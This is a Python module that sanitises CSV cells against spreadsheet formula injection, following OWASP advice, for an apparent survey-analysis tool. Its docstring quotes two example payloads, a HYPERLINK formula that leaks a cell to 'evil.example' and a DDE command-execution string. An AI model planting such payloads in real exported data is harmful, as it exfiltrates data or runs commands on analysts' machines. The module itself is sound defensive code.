"""CSV files meant for people, who open them in Excel or LibreOffice: no cell may start a formula.

A spreadsheet reads a cell starting with `=`, `+`, `-` or `@` (and, in some programs, a tab, a
line break or the full-width forms of those signs) as a formula, so a proposal such as
`=HYPERLINK("http://evil.example/?"&A1, "klik")` or `+1+cmd|' /C calc'!A0` would run on the
analyst's machine. OWASP's advice is followed: such a text cell gets a leading `'`, which
spreadsheets show as nothing and which turns the cell into plain text. Numbers (int and float
cells, and text that is just a number such as "-3.5") are left as they are, so they stay numbers.

Only the CSV files for people go through here (the report's tables, the opinion and theme
outputs). The Pol.is-format export of `python -m surveys export` is data interchange: it keeps
the citizens' text byte for byte so that Pol.is tools read it back unchanged, and the README
says it is not for opening in a spreadsheet.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from pathlib import Path

# What makes a spreadsheet start a formula (OWASP "CSV Injection"), plus the line breaks and
# full-width signs that some programs and input methods treat the same way.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(cell: object) -> object:
    """`cell` as a spreadsheet must show it: text that would start a formula gets a leading `'`.

    None becomes "" and numbers are returned unchanged; so is a lone "-" (a placeholder such
    as "no group", which no spreadsheet reads as a formula).
    """
    if cell is None:
        return ""
    if not isinstance(cell, str):
        return cell
    if cell.startswith(FORMULA_STARTS) and cell != "-" and not _PLAIN_NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[object]]) -> Path:
    """Write a UTF-8 CSV for people: every cell through `safe_cell`."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow([safe_cell(name) for name in header])
        writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return path
